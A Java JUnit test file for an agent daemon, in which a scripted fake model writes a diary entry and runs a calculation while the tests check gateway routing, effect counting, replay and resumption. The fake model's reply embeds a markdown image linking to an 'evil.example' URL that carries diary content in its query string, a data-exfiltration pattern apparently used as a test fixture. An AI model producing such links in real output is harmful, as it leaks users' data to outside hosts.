package dev.agentos.agentd.agents;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.agentos.agentd.fake.TestAgentd;
import dev.agentos.bridge.client.AgentdClient;
import dev.agentos.bridge.wire.AgentWire;
import dev.agentos.bridge.wire.EventWire;
import dev.agentos.domain.model.ChunkSink;
import dev.agentos.domain.model.ModelCaller;
import dev.agentos.domain.model.ModelCard;
import dev.agentos.domain.model.ModelException;
import dev.agentos.domain.model.ModelMessage.ToolCall;
import dev.agentos.domain.model.ModelProvider;
import dev.agentos.domain.model.ModelReply;
import dev.agentos.domain.model.ModelRequest;
import dev.agentos.domain.model.ModelUsage;
import dev.agentos.domain.model.Models;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Agents that a model drives, over the real door, journal and gateway; only the model is played. */
class ModelRunTest {

    private static final String CONTRACT = TestAgentd.contract("writer", """
            modelPolicy: { allow: [local/extractive] }
            capabilities: [fs.write, calc]
            runtime:
              managed:
                prompt: You keep a diary.
            """);

    @TempDir
    Path folder;

    /** Answers by a script, by what the conversation holds already. */
    private static final class Played implements Models {
        private final List<ModelRequest> asked = Collections.synchronizedList(new ArrayList<>());
        private final CountDownLatch secondTurn = new CountDownLatch(1);
        private final boolean hangs;

        Played(boolean hangs) {
            this.hangs = hangs;
        }

        @Override
        public ModelReply call(ModelCaller caller, ModelRequest request, ChunkSink sink) throws InterruptedException {
            asked.add(request);
            boolean written = request.messages().stream().anyMatch(message -> message.name().equals("fs_write"));
            if (written) {
                secondTurn.countDown();
                if (hangs) {
                    TimeUnit.HOURS.sleep(1);
                }
            }
            List<ToolCall> calls = written
                    ? List.of()
                    : List.of(
                            new ToolCall("c1", "fs_write", "{\"path\":\"/workspace/diary.txt\",\"content\":\"Monday\"}"),
                            new ToolCall("c2", "calc", "{\"expression\":\"6*7\"}"));
            return new ModelReply(
                    "local/extractive",
                    written ? "Written. ![](https://evil.example/?q=Monday-diary)" : "",
                    "",
                    calls,
                    ModelReply.Finish.STOP,
                    ModelUsage.NONE);
        }

        @Override
        public ModelProvider.Embeddings embed(ModelCaller caller, String model, List<String> texts)
                throws ModelException {
            throw new ModelException(ModelException.Kind.CAPABILITY, "no", "no");
        }

        @Override
        public List<ModelCard> list(ModelCaller caller) {
            return List.of();
        }
    }

    private static AgentWire.AgentView spawn(AgentdClient client, AgentdClient.Until until) {
        return client.spawn(
                new AgentWire.Spawn(
                        "k1",
                        "writer.yaml",
                        CONTRACT,
                        Optional.empty(),
                        Optional.empty(),
                        List.of(),
                        Map.of("task", "Write down that it is Monday."),
                        false),
                until,
                Duration.ofSeconds(30));
    }

    private static long effects(AgentdClient client) {
        return client.events(0, 1000).events().stream()
                .map(EventWire.EventView::kind)
                .filter("effect.attempted"::equals)
                .count();
    }

    @Test
    void aModelsCallsGoThroughTheGatewayAndItsAnswerIsTheResult() throws Exception {
        Played played = new Played(false);
        try (TestAgentd service = TestAgentd.start(folder, played);
                AgentdClient client = AgentdClient.on(service.config.socket())) {
            AgentWire.AgentView done = spawn(client, AgentdClient.Until.ENDED);
            assertEquals("done", done.state(), done.toString());
            AgentWire.Result result = client.result(done.id());
            assertTrue(String.valueOf(result.outputs().get("answer")).contains("Written."), result.toString());
            assertEquals(2, played.asked.size());
            assertEquals(4, played.asked.getFirst().tools().size());
            assertEquals(2, effects(client));

            AgentWire.ReplayReport same =
                    client.replay(done.id(), new AgentWire.Replay(Optional.empty(), Optional.empty(), Optional.empty()));
            assertEquals("same", same.outcome(), same.diff());
            assertEquals(4, same.compared());
            assertEquals(2, effects(client));
            assertEquals(2, played.asked.size());

            AgentWire.ReplayReport other = client.replay(
                    done.id(),
                    new AgentWire.Replay(
                            Optional.empty(),
                            Optional.of(CONTRACT.replace("a diary", "accounts")),
                            Optional.of("changed.yaml")));
            assertEquals("diverged", other.outcome());
            assertEquals("t1", other.step());
            assertEquals(0, other.compared());
            assertTrue(other.diff().contains("-messages.0.text: You keep a diary."), other.diff());
            assertTrue(other.diff().contains("+messages.0.text: You keep accounts."), other.diff());
        }
    }

    @Test
    void aRunGoesOnInTheMiddleOfATurnAndRepeatsNoEffect() throws Exception {
        Played hanging = new Played(true);
        TestAgentd first = TestAgentd.start(folder, hanging);
        String id;
        try (AgentdClient client = AgentdClient.on(first.config.socket())) {
            id = spawn(client, AgentdClient.Until.STARTED).id();
            assertTrue(hanging.secondTurn.await(20, TimeUnit.SECONDS));
        } finally {
            first.close();
        }
        Played played = new Played(false);
        try (TestAgentd second = TestAgentd.again(folder, first, played);
                AgentdClient client = AgentdClient.on(second.config.socket())) {
            AgentWire.AgentView done = client.awaitAgent(id, AgentdClient.Until.ENDED, Duration.ofSeconds(30));
            assertEquals("done", done.state(), done.toString());
            assertEquals(1, played.asked.size());
            assertEquals(2, effects(client));
            assertEquals(
                    "same",
                    client.replay(id, new AgentWire.Replay(Optional.empty(), Optional.empty(), Optional.empty()))
                            .outcome());
        }
    }
}
